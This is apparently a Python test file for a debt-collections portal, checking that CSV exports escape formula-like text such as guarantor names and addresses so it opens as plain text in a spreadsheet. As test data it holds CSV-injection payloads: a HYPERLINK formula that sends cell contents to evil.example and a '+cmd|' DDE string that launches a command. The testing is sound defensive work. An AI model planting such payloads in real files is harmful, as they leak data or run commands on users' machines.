"""CSV exports open safely in a spreadsheet: a guarantor's text never comes out as a live formula,
and amounts (negative ones too) stay numbers."""
import csv
import io
from datetime import date, timedelta

from portal import collections, spreadsheet
from portal.extensions import db
from tests.fixtures.collections import owing
from tests.portal.collections.test_collections import run

D0 = date(2026, 1, 5)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Pay here")'


def test_aging_csv_shows_a_formula_like_guarantor_name_as_text(app, login_as):
    account = owing(12345, D0)
    account.guarantor_name = EVIL
    other = owing(500, D0)
    other.guarantor_name = "@SUM(1+1)"
    db.session.commit()
    client = login_as("collector")
    response = client.get(f"/staff/collections/aging.csv?as_of={(D0 + timedelta(days=40)).isoformat()}")
    rows = {r["account"]: r for r in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    assert rows[account.number]["guarantor"] == "'" + EVIL
    assert rows[other.number]["guarantor"] == "'@SUM(1+1)"
    assert rows[account.number]["total"] == "123.45"


def test_placement_file_neutralises_text_cells(app):
    account = owing(80000, D0)
    account.guarantor_name, account.address_line1, account.city = "+cmd|' /C calc'!A0", "\t=1+1", "-2+3"
    db.session.commit()
    agency = collections.create_agency(name="Summit Recovery", contact=None, fee_bps=2500, actor="test")
    for day in (0, 30, 60, 90, 120):
        run(app, D0 + timedelta(days=day))
    collections.place(account, agency, as_of=D0 + timedelta(days=121), actor="test")
    db.session.commit()
    row = next(csv.DictReader(io.StringIO(collections.placement_file(agency, actor="test"))))
    assert row["guarantor_name"] == "'+cmd|' /C calc'!A0"
    assert row["address_line1"] == "'\t=1+1" and row["city"] == "'-2+3"
    assert row["balance"] == "800.00"


def test_negative_amounts_stay_numbers_and_plain_text_is_untouched():
    assert spreadsheet.neutralise("-1234.50") == "-1234.50"
    assert spreadsheet.neutralise("-7") == "-7"
    assert spreadsheet.neutralise("-1+2") == "'-1+2"
    assert spreadsheet.neutralise("\rfoo") == "'\rfoo"
    assert spreadsheet.neutralise("Jane Doe") == "Jane Doe" and spreadsheet.neutralise(42) == 42
